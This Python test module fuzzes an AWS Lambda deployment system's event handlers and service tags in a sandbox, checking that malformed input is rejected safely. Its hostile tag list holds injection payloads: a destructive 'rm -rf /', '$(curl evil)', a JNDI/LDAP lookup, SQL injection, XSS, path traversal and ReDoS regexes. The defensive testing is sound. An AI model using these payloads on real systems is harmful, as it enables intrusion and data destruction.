"""Hostile input: generated malformed events through every handler, hostile tag values.

Events: hypothesis mutates the real sample events of ``events/`` (a key removed, a value
of the wrong type, a huge string, odd unicode, another or an unknown detail-type) and
adds non-events (truncated JSON text, lists, numbers, null). Each goes to the handler of
the function the sample belongs to, ``handler(event, context)`` as Lambda calls it, in
the deployed function's environment against the sandbox. Per event: the exception (if
any) must be one of ``autopilot.errors``; a rejection (``InvalidEvent``) must carry a
message and make no AWS call at all; an accepted event must make no mutating call other
than the ledger's and notices' (DynamoDB, SNS); the time of each is recorded.

Tags: hand-written hostile values (catastrophic-backtracking regexes, 10 KB globs,
injection-looking strings, control characters) on one service's ``autopilot:*`` tags;
a push to its repository must reject that service with a reason naming the tag, never
deploy it, and still deploy its sibling service. ``parse_service_config`` and the
policy's tag matching are also driven directly with generated values.
"""

# ruff: noqa: PLC0415 - imports are deferred

from __future__ import annotations

import base64
import contextlib
import json
import signal
import threading
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from reliability import estate
from reliability.hooks import HOOKS
from reliability.results import Summarized

FUNCTION_OF = {
    "ecr-": "image-events",
    "inspector2-": "image-events",
    "ecs-deployment-": "deployment-events",
    "ecs-task-": "task-events",
    "cloudwatch-": "capacity-events",
    "ec2-": "capacity-events",
    "ecs-service-action-": "capacity-events",
}
LEDGER_SERVICES = ("dynamodb", "sns")


def samples() -> dict[str, list[dict[str, Any]]]:
    from sandbox.synth import REPO_ROOT

    out: dict[str, list[dict[str, Any]]] = {}
    for path in sorted((REPO_ROOT / "events").glob("*.json")):
        fn = next((f for p, f in FUNCTION_OF.items() if path.name.startswith(p)), None)
        if fn is not None:
            out.setdefault(fn, []).append(json.loads(path.read_text()))
    return out


class Overrun(Exception):
    """A call ran past its time bound (interrupted by SIGALRM)."""


@contextlib.contextmanager
def bounded(seconds: float) -> Any:
    """Interrupt the block after ``seconds`` (main thread only; elsewhere: no bound)."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return

    def _raise(*_a: Any) -> None:
        raise Overrun(f"ran past {seconds:g} s")

    previous = signal.signal(signal.SIGALRM, _raise)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


#: per call: a handler on one event, a tag parse with its probes
EVENT_BOUND_SECONDS = 30.0
TAG_BOUND_SECONDS = 5.0


@dataclass
class HostileResult(Summarized):
    events: int = 0
    by_function: dict[str, int] = field(default_factory=dict)
    rejected: int = 0
    accepted: int = 0
    typed_other: Counter[str] = field(default_factory=Counter)
    untyped: list[str] = field(default_factory=list)
    unclear: list[str] = field(default_factory=list)
    mutating: list[str] = field(default_factory=list)
    calls_on_rejection: list[str] = field(default_factory=list)
    max_seconds: float = 0.0
    seconds: float = 0.0
    tag_values: int = 0
    tag_checks_failed: list[str] = field(default_factory=list)
    tag_max_seconds: float = 0.0
    tag_config_values: int = 0
    hangs: list[str] = field(default_factory=list)  # calls that ran past their bound

    @property
    def ok(self) -> bool:
        return not (
            self.hangs
            or self.untyped
            or self.unclear
            or self.mutating
            or self.calls_on_rejection
            or self.tag_checks_failed
        )

    def summary(self) -> dict[str, Any]:
        out = super().summary()
        out["typed_other"] = dict(self.typed_other)
        return out


# ---------------------------------------------------------------------------- strategies
def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix] if prefix else []
    if isinstance(doc, dict):
        for k, v in doc.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            out += _paths(v, (*prefix, i))
    return out


def _set(doc: Any, path: tuple[Any, ...], value: Any, *, delete: bool = False) -> Any:
    doc = json.loads(json.dumps(doc))
    cur = doc
    for key in path[:-1]:
        cur = cur[key]
    if delete:
        del cur[path[-1]]
    else:
        cur[path[-1]] = value
    return doc


def event_strategy(base: list[dict[str, Any]]) -> Any:
    from hypothesis import strategies as st

    junk = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        st.text(max_size=30),
        st.lists(st.integers(), max_size=3),
        st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
        st.just("x" * 100_000),
        st.just("\u202e\u0000\ud800\U0001f4a5" * 50),
        st.text(alphabet=st.characters(codec=None, min_codepoint=0x80), min_size=1, max_size=40),
        st.just("sha256:" + "0" * 64),
        st.just("-1"),
        st.just(10**30),
    )
    detail_types = st.sampled_from(
        [
            "ECR Image Action",
            "ECR Image Scan",
            "Inspector2 Scan",
            "ECS Deployment State Change",
            "ECS Task State Change",
            "ECS Service Action",
            "CloudWatch Alarm State Change",
            "EC2 Spot Instance Interruption Warning",
            "",
            "Nope",
            "ECR Image Action ",
        ]
    )

    @st.composite
    def mutated(draw: Any) -> Any:
        doc = draw(st.sampled_from(base))
        for _ in range(draw(st.integers(1, 3))):
            paths = _paths(doc)
            if not paths:
                break
            path = draw(st.sampled_from(paths))
            how = draw(st.sampled_from(["delete", "junk", "junk", "detail-type"]))
            if how == "delete" and not isinstance(path[-1], int):
                doc = _set(doc, path, None, delete=True)
            elif how == "detail-type" and isinstance(doc, dict):
                doc = _set(doc, ("detail-type",), draw(detail_types))
            else:
                doc = _set(doc, path, draw(junk))
        return doc

    @st.composite
    def truncated(draw: Any) -> Any:
        text = json.dumps(draw(st.sampled_from(base)))
        return text[: draw(st.integers(0, len(text) - 1))]

    top = st.one_of(
        st.none(), st.integers(), st.lists(st.integers(), max_size=2), st.text(max_size=20)
    )
    return st.one_of(mutated(), mutated(), mutated(), mutated(), truncated(), top)


# ---------------------------------------------------------------------------- events
def run_events(  # noqa: PLR0915 - the classification reads best in one place
    sb: Any, *, n_events: int, seed: int = 0
) -> HostileResult:
    from autopilot.errors import AutopilotError, InvalidEvent
    from hypothesis import HealthCheck, given, settings
    from hypothesis import seed as hseed

    from sandbox.router import (
        LambdaContext,
        _CapturedOutput,
        lambda_environment,
        load_handler,
        reset_function_caches,
    )
    from sandbox.server import patched_environ

    res = HostileResult()
    started = time.perf_counter()
    base = samples()
    per_fn = max(1, n_events // len(base))
    for fn_name, docs in base.items():
        fn = estate.function(sb, fn_name)
        with patched_environ(lambda_environment(fn, sb.endpoint)):
            handler = load_handler(fn.handler)  # imported as Lambda does: in its environment

        @hseed(seed)
        @settings(
            max_examples=per_fn,
            deadline=timedelta(seconds=30),
            database=None,
            suppress_health_check=list(HealthCheck),
            derandomize=False,
        )
        @given(event_strategy(docs))
        def one(event: Any) -> None:
            mark = HOOKS.mark()
            t0 = time.perf_counter()
            error: BaseException | None = None
            try:
                with bounded(EVENT_BOUND_SECONDS):
                    handler(event, LambdaContext(fn))  # noqa: B023
            except Overrun as exc:
                res.hangs.append(f"{fn_name}: {exc} on {json.dumps(event)[:300]}")  # noqa: B023
                return
            except Exception as exc:
                error = exc
            took = time.perf_counter() - t0
            res.max_seconds = max(res.max_seconds, took)
            res.events += 1
            res.by_function[fn_name] = res.by_function.get(fn_name, 0) + 1  # noqa: B023
            calls = HOOKS.since(mark)
            sample = json.dumps(event)[:300] if not isinstance(event, str) else repr(event[:300])
            if error is None:
                res.accepted += 1
                bad = [c for c in calls if c.mutating and c.service not in LEDGER_SERVICES]
                res.mutating += [
                    f"{fn_name}: {c.service}:{c.operation} on {sample}"  # noqa: B023
                    for c in bad
                ]
            elif isinstance(error, InvalidEvent):
                res.rejected += 1
                if not str(error).strip():
                    res.unclear.append(f"{fn_name}: empty message on {sample}")  # noqa: B023
                if calls:
                    ops = [c.operation for c in calls]
                    res.calls_on_rejection.append(f"{fn_name}: {ops} before rejecting {sample}")  # noqa: B023
            elif isinstance(error, AutopilotError):
                res.typed_other[type(error).__name__] += 1
                bad = [c for c in calls if c.mutating and c.service not in LEDGER_SERVICES]
                res.mutating += [f"{fn_name}: {c.service}:{c.operation}" for c in bad]  # noqa: B023
            else:
                where = traceback.extract_tb(error.__traceback__)[-1]
                res.untyped.append(
                    f"{fn_name}: {type(error).__name__}: {str(error)[:200]} at "  # noqa: B023
                    f"{where.filename}:{where.lineno} on {sample}"
                )

        with patched_environ(lambda_environment(fn, sb.endpoint)), _CapturedOutput():
            reset_function_caches()
            try:
                one()
            finally:
                reset_function_caches()
    res.seconds = time.perf_counter() - started
    return res


# ---------------------------------------------------------------------------- tags
CATASTROPHIC = [
    "(a+)+$",
    "(a|aa)+$",
    "(.*a){25}",
    r"^(\w+\s?)*$",
    "(x+x+)+y",
    "((a*)*)*b",
    "(?:a?){40}a{40}",
    r"(\d+)*\D",
]


def hostile_tag_values() -> list[tuple[str, str]]:
    """(tag key, value) pairs: each makes the service's config malformed or harmless."""

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    vals: list[tuple[str, str]] = [("autopilot:policy", f"regex:{r}") for r in CATASTROPHIC]
    vals += [("autopilot:policy", f"regex64:{b64(r)}") for r in CATASTROPHIC[:3]]
    vals += [
        ("autopilot:policy", "glob:" + "*a" * 5000),  # 10 KB
        ("autopilot:policy", "glob:" + "*" * 10_240),
        ("autopilot:policy", "glob64:" + b64("*?" * 5000)),
        ("autopilot:policy", "glob64:%%%not-base64%%%"),
        ("autopilot:policy", "regex:" + "(" * 5000),
        ("autopilot:policy", "semver; rm -rf / #"),
        ("autopilot:policy", "tag:$(curl evil)"),
        ("autopilot:policy", "${jndi:ldap://x/a}"),
        ("autopilot:policy", "semver\u0000minor"),
        ("autopilot:policy", "\u202esemver"),
        ("autopilot:scan", "critical' OR '1'='1"),
        ("autopilot:scan", "<script>alert(1)</script>"),
        ("autopilot:approval", "auto\nmanual"),
        ("autopilot:container", "../../etc/passwd"),
        ("autopilot:scaling", "1-" + "9" * 400),
        ("autopilot:rebalance", "on; DROP TABLE ledger"),
    ]
    return vals


def run_tags(
    sb: Any,
    result: HostileResult,
    *,
    seed: int = 0,
    values: list[tuple[str, str]] | None = None,
    repository: str = "rel/app4",
    victim: str = "svc9",
    sibling: str = "svc8",
) -> None:
    """Each hostile value on ``victim``; a push to its repository; the checks."""
    from reliability import replay

    ecs = sb.clients("ecs")
    sim_victim = sb.simulator.service(victim)
    original = {
        t["key"]: t["value"] for t in ecs.list_tags_for_resource(resourceArn=sim_victim.arn)["tags"]
    }
    repos = {
        r["repositoryName"]: r
        for r in sb.clients("ecr").describe_repositories(repositoryNames=[repository])[
            "repositories"
        ]
    }
    for n, (key, value) in enumerate(values if values is not None else hostile_tag_values()):
        ecs.tag_resource(resourceArn=sim_victim.arn, tags=[{"key": key, "value": value}])
        img = replay.Image(repository, replay.allocate(repository, 1)[0], {}, False)
        replay.put_images(sb, [img])
        mark = HOOKS.mark()
        t0 = time.perf_counter()
        routes = []
        for kind in ("push", "scan"):
            ev = {"kind": kind, "image": img, "id": f"hostile-tag-{seed}-{n}-{kind}"}
            routes += sb.simulator.emit(replay.to_event(sb, ev, repos))
        took = time.perf_counter() - t0
        result.tag_max_seconds = max(result.tag_max_seconds, took)
        result.tag_values += 1
        label = f"{key}={value[:40]!r}{'...' if len(value) > 40 else ''}"
        image_routes = [r for r in routes if r.function == "image-events"]
        if any(not r.ok for r in image_routes):
            result.tag_checks_failed.append(
                f"{label}: image-events failed: {[r.error for r in image_routes if not r.ok]}"
            )
        decisions = [d for r in image_routes for d in (r.report or {}).get("decisions", [])]
        victim_d = [d for d in decisions if d["service"].endswith(f"/{victim}")]
        image_key = key in (
            "autopilot:policy",
            "autopilot:scan",
            "autopilot:approval",
            "autopilot:container",
        )  # the tags image-events reads
        # rejected with the tag named, or (a value harmless after all) not deployable by it
        fine = [
            (d["outcome"] == "rejected" and (key in d["reason"] or value[:40] in d["reason"]))
            or d["outcome"] in ("policy-mismatch", "awaiting-scan")
            for d in victim_d
        ]
        if image_key and not all(fine):
            result.tag_checks_failed.append(f"{label}: {victim} decided {victim_d}")
        deploys = [
            c
            for c in HOOKS.since(mark)
            if c.operation == "UpdateService"
            and str(c.params.get("service", "")).endswith(f"/{victim}")
        ]
        if deploys and image_key:
            result.tag_checks_failed.append(f"{label}: {victim} was deployed")
        if not any(
            d["service"].endswith(f"/{sibling}") and d["outcome"] == "deployed" for d in decisions
        ):
            result.tag_checks_failed.append(f"{label}: {sibling} was not deployed")
        ecs.untag_resource(resourceArn=sim_victim.arn, tagKeys=[key])
        if key in original:
            ecs.tag_resource(
                resourceArn=sim_victim.arn, tags=[{"key": key, "value": original[key]}]
            )


def run_tag_parsing(result: HostileResult, *, n_values: int, seed: int = 0) -> None:
    """``parse_service_config`` and tag matching on generated values: MalformedTag or a
    config, each call bounded."""
    from autopilot.errors import AutopilotError
    from autopilot.logic.policy import parse_service_config
    from hypothesis import HealthCheck, given, settings
    from hypothesis import seed as hseed
    from hypothesis import strategies as st

    keys = st.sampled_from(
        [
            "autopilot:policy",
            "autopilot:scan",
            "autopilot:approval",
            "autopilot:container",
            "autopilot:scaling",
            "autopilot:rebalance",
        ]
    )
    prefixes = st.sampled_from(
        ["", "regex:", "glob:", "tag:", "semver", "semver:", "regex64:", "glob64:"]
    )
    values = st.one_of(  # CATASTROPHIC are checked once each, before
        st.text(max_size=300),
        st.text(alphabet="()*+?|\\.a{}[]^$", max_size=80),
    )
    probe = [
        "a" * 60 + "!",
        "1.2.3",
        "x" * 128,
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ]

    def check(key: str, prefix: str, value: str) -> None:
        t0 = time.perf_counter()
        tags = {"autopilot:repository": "rel/app0", key: prefix + value}
        try:
            with bounded(TAG_BOUND_SECONDS):
                cfg = parse_service_config(tags)
                if cfg is not None:
                    for p in probe:
                        cfg.policy.accepts_tag(p)
        except Overrun as exc:
            result.hangs.append(f"{key}={prefix + value!r}: matching {probe} {exc}")
        except AutopilotError:
            pass
        except Exception as exc:
            where = traceback.extract_tb(exc.__traceback__)[-1]
            result.untyped.append(
                f"parse_service_config: {type(exc).__name__}: {exc} at "
                f"{where.filename}:{where.lineno} on {tags!r}"[:400]
            )
        result.tag_max_seconds = max(result.tag_max_seconds, time.perf_counter() - t0)
        result.tag_config_values += 1

    # the hand-written ones first (deterministic), then generated ones
    for value in CATASTROPHIC:
        check("autopilot:policy", "regex:", value)

    @hseed(seed)
    @settings(
        max_examples=n_values,
        deadline=timedelta(seconds=10),
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(keys, prefixes, values)
    def one(key: str, prefix: str, value: str) -> None:
        check(key, prefix, value)

    one()


REDOS_POLICY = "regex:(?:a?){40}a{40}"


def run_redos_push(
    sb: Any,
    result: HostileResult,
    *,
    repository: str = "rel/app4",
    victim: str = "svc9",
    bound: float = EVENT_BOUND_SECONDS,
) -> float:
    """The whole image-events path on an image whose tag meets a backtracking policy regex.

    ``victim`` gets ``autopilot:policy`` = ``REDOS_POLICY`` (accepted by the pattern check),
    an image tagged ``"a" * 40`` is pushed, and image-events' ``run()`` is called on its
    clean scan result (directly, in the main thread, bounded by ``EVENT_BOUND_SECONDS``). Returns
    the seconds it took; an overrun is recorded in ``result.hangs``.
    """
    from autopilot.aws.clients import AwsClients

    from sandbox.router import lambda_environment, load_handler, reset_function_caches
    from sandbox.server import patched_environ
    from sandbox.simulator import Simulator, image_manifest

    ecs = sb.clients("ecs")
    arn = sb.simulator.service(victim).arn
    before = {t["key"]: t["value"] for t in ecs.list_tags_for_resource(resourceArn=arn)["tags"]}
    ecs.tag_resource(resourceArn=arn, tags=[{"key": "autopilot:policy", "value": REDOS_POLICY}])
    out = sb.clients("ecr").put_image(
        repositoryName=repository,
        imageManifest=image_manifest("redos"),
        imageTag="a" * 40,
    )
    digest = out["image"]["imageId"]["imageDigest"]
    repo = sb.clients("ecr").describe_repositories(repositoryNames=[repository])["repositories"][0]
    # the scan result (clean): the scan gate passes and the policy is asked about the tag
    event = Simulator.scan_event(repo, digest, ["a" * 40], {}, "basic")
    event["id"] = "hostile-redos-scan"
    fn = estate.function(sb, "image-events")
    t0 = time.perf_counter()
    try:
        with patched_environ(lambda_environment(fn, sb.endpoint)):
            reset_function_caches()
            run = load_handler(fn.handler.rsplit(".", 1)[0] + ".run")
            with bounded(bound):
                run(event, aws=AwsClients())
    except Overrun as exc:
        result.hangs.append(
            f"image-events on a push tagged 'a'*40 with {victim} on "
            f"autopilot:policy={REDOS_POLICY}: {exc}"
        )
    finally:
        reset_function_caches()
        ecs.untag_resource(resourceArn=arn, tagKeys=["autopilot:policy"])
        if "autopilot:policy" in before:
            ecs.tag_resource(
                resourceArn=arn,
                tags=[{"key": "autopilot:policy", "value": before["autopilot:policy"]}],
            )
    return time.perf_counter() - t0
